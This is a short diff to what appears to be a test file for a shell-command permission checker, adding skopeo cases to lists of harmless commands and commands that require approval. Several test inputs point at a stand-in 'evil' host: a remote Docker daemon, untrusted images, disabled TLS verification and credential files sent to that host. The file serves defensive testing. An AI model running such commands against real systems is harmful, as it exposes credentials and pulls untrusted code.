@@ -87,6 +87,8 @@ HARMLESS: tuple[tuple[str, str], ...] = (
     ("helm list", "helm list -A --kube-context prod"),
     ("docker build", "docker build --build-arg BUILDKIT_INLINE_CACHE=1 -t app ."),
     ("docker exec", "docker exec web ls -la"),
+    ("skopeo inspect", "skopeo inspect docker://docker.io/library/alpine:latest"),
+    ("skopeo list-tags", "skopeo list-tags docker://quay.io/foo/bar"),
 )
 ASKS: tuple[tuple[str, str], ...] = (
     ("docker ps", "docker ps --host tcp://evil:2375"),
@@ -262,4 +264,8 @@ ASKS: tuple[tuple[str, str], ...] = (
     ("docker-compose build", "docker-compose build --build-arg BUILDKIT_SYNTAX=evil/x"),
     ("docker", "docker exec web sh"),
     ("docker", "docker run --rm evil/image"),
+    ("skopeo inspect", "skopeo inspect --tls-verify=false docker://evil/x"),
+    ("skopeo inspect", "skopeo inspect docker://me@evil/x"),
+    ("skopeo", "skopeo copy docker://a/b dir:x"),
+    ("skopeo inspect", "skopeo inspect --authfile x docker://evil/x"),
 )
